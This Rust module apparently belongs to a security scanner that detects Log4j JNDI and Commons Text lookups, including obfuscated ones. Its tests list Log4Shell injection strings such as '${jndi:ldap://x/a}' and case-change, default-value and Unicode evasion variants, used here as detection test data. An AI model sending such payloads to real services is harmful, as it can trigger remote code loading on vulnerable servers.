//! Lookups of Log4j (`${prefix:key:-default}`), evaluated as far as an attacker can rely on: nested ones first, case
//! changes, defaults. It says what an evaluated lookup begins with; it reaches out to nothing.

use crate::language::{Context, Findings, Input, Language};

/// Bytes of a lookup's content that are evaluated; obfuscation builds short names.
const CONTENT_BYTES_MAX: usize = 256;
/// Open lookups that are followed.
const DEPTH_MAX: usize = 64;
/// Lookups that yield one or two characters, from which on a name is being spelt.
const SPELLING_MIN: usize = 2;

/// The effect of a lookup.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LookupSign {
    /// It asks a naming service.
    Naming,
    /// Its name is spelt by others.
    Spelt,
    /// It runs a script, resolves a name or fetches a file (Commons Text).
    Text,
}

/// Lookups that a logger or a text library evaluates. A scan finds the first one of each kind.
#[derive(Debug)]
pub struct Lookup;

impl Language for Lookup {
    type Sign = LookupSign;
    const NAME: &'static str = "lookup";
    const TRIGGERS: &'static [&'static str] = &["${"];

    fn scan(input: &Input<'_>, findings: &mut Findings<'_, LookupSign>) {
        let bytes = input.bytes;
        if memchr::memmem::find(bytes, b"${").is_none() {
            return;
        }
        let first = evaluate(bytes);
        for (offset, sign) in [
            (first.naming, LookupSign::Naming),
            (first.spelt, LookupSign::Spelt),
            (first.text, LookupSign::Text),
        ] {
            if let Some(offset) = offset {
                findings.add(sign, Context::Code, offset, bytes.len().saturating_sub(offset));
            }
        }
    }
}

/// The lookups of a value.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
struct Lookups {
    /// Where the first lookup begins that asks a naming service.
    naming: Option<usize>,
    /// Where a lookup begins whose name is spelt by others.
    spelt: Option<usize>,
    /// Where a lookup begins that runs a script, resolves a name or fetches a file (Commons Text).
    text: Option<usize>,
}

struct Open {
    /// Where its content starts in the evaluated text.
    start: usize,
    /// Where it stands in the value.
    offset: usize,
    /// Lookups inside that yielded a character or two.
    letters: usize,
    /// Whether one inside has no name.
    holds_nameless: bool,
}

/// Evaluates the lookups in `value`, in one pass.
fn evaluate(value: &[u8]) -> Lookups {
    let mut lookups = Lookups::default();
    let mut text: Vec<u8> = Vec::new();
    let mut open: Vec<Open> = Vec::new();
    for (offset, &byte) in value.iter().enumerate() {
        match byte {
            // The `$` may itself be what a lookup yielded.
            b'{' if text.last() == Some(&b'$') && open.len() < DEPTH_MAX => {
                text.pop();
                open.push(Open {
                    start: text.len(),
                    offset: offset.saturating_sub(1),
                    letters: 0,
                    holds_nameless: false,
                });
            }
            b'}' if !open.is_empty() => {
                if let Some(lookup) = open.pop() {
                    let content = text.get(lookup.start..).unwrap_or_default();
                    lookups.note(&lookup, content);
                    let nameless = content.starts_with(b"::-");
                    let result = evaluated(content);
                    text.truncate(lookup.start);
                    text.extend_from_slice(&result);
                    if let Some(outer) = open.last_mut() {
                        outer.letters += usize::from((1..=2).contains(&result.len()));
                        outer.holds_nameless |= nameless;
                    }
                }
            }
            _ if open.is_empty() => {
                // Outside of lookups only a `$` can matter.
                text.clear();
                text.push(byte);
            }
            _ => text.push(byte),
        }
    }
    for lookup in &open {
        lookups.note(lookup, text.get(lookup.start..).unwrap_or_default());
    }
    lookups
}

impl Lookups {
    fn note(&mut self, lookup: &Open, content: &[u8]) {
        let name = content.trim_ascii_start();
        if name.get(..5).is_some_and(|start| start.eq_ignore_ascii_case(b"jndi:")) {
            self.naming.get_or_insert(lookup.offset);
        }
        // A lookup without a name that holds another one: recursion for its own sake.
        if lookup.letters >= SPELLING_MIN || lookup.holds_nameless && name.starts_with(b"::-") {
            self.spelt.get_or_insert(lookup.offset);
        }
        if is_text_lookup(name) {
            self.text.get_or_insert(lookup.offset);
        }
    }
}

/// `script:engine:…`, `url:charset:…`, `file:charset:…`, `dns:address|…`. What follows is no default and no slice of a shell.
fn is_text_lookup(content: &[u8]) -> bool {
    let Some(colon) = memchr::memchr(b':', content.get(..16).unwrap_or(content)) else { return false };
    let (prefix, rest) = content.split_at(colon);
    let rest = rest.get(1..).unwrap_or_default();
    let length = rest.iter().take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'-').count();
    let argued = rest.first().is_some_and(u8::is_ascii_alphabetic) && rest.len() > length + 1;
    let mark = rest.get(length);
    let starts = |name: &[u8]| prefix.eq_ignore_ascii_case(name);
    argued
        && (mark == Some(&b':') && (starts(b"script") || starts(b"url") || starts(b"file"))
            || mark == Some(&b'|') && starts(b"dns"))
}

/// What a lookup with that content yields.
fn evaluated(content: &[u8]) -> Vec<u8> {
    let content = content.get(..CONTENT_BYTES_MAX).unwrap_or(content);
    let starts =
        |prefix: &[u8]| content.get(..prefix.len()).is_some_and(|start| start.eq_ignore_ascii_case(prefix));
    if starts(b"lower:") {
        return changed_case(content, u8::to_ascii_lowercase);
    }
    if starts(b"upper:") {
        return changed_case(content, u8::to_ascii_uppercase);
    }
    if let Some(at) = memchr::memmem::find(content, b":-") {
        return content.get(at + 2..).unwrap_or_default().to_vec();
    }
    if starts(b"date:") {
        return content.iter().skip(5).copied().filter(|byte| *byte != b'\'').collect();
    }
    Vec::new()
}

/// The text after `lower:` or `upper:`. Letters of other alphabets that change into ASCII are turned too.
fn changed_case(content: &[u8], turn: impl Fn(&u8) -> u8) -> Vec<u8> {
    let text = content.get(6..).unwrap_or_default();
    let mut out = Vec::with_capacity(text.len());
    let mut rest = text;
    while let Some((byte, after)) = rest.split_first() {
        let (ascii, left) = match rest {
            [0xc4, 0xb0 | 0xb1, left @ ..] => (b'i', left),
            [0xc5, 0xbf, left @ ..] => (b's', left),
            [0xe2, 0x84, 0xaa, left @ ..] => (b'k', left),
            _ => (*byte, after),
        };
        out.push(turn(&ascii));
        rest = left;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_spelling_comes_to_the_same_name() {
        for value in [
            "${jndi:ldap://x/a}",
            "x ${JnDi:ldap://x/a",
            "${${lower:j}ndi:x}",
            "${${lower:${upper:j}}${::-n}di:x}",
            "${${env:FOO:-j}ndi${env:BAR:-:}ldap://x}",
            "$${env:a:-${env:b:-$}{jndi:ldap://x}}}",
            "${:1337:-x$}{jndi:ldap://x}",
            "${jnd${upper:\u{131}}:ldap://x}",
            "${${date:'j'}ndi:x}",
            "${a:-${jndi:x}}",
            "${ jndi:x}",
        ] {
            assert!(evaluate(value.as_bytes()).naming.is_some(), "{value}");
        }
    }

    #[test]
    fn templates_are_not_lookups() {
        for value in [
            "${name}",
            "`${a ? `${b}` : ''}`",
            "${env:PATH:-/bin}",
            "jndi:ldap://x",
            "$ {jndi:x}",
            "{jndi:x}",
            "costs $5 {net}",
        ] {
            assert_eq!(evaluate(value.as_bytes()), Lookups::default(), "{value}");
        }
    }

    #[test]
    fn nesting_is_bounded() {
        let deep = "${lower:".repeat(20_000) + &"a".repeat(20_000) + &"}".repeat(20_000);
        assert_eq!(evaluate(deep.as_bytes()).naming, None);
    }
}
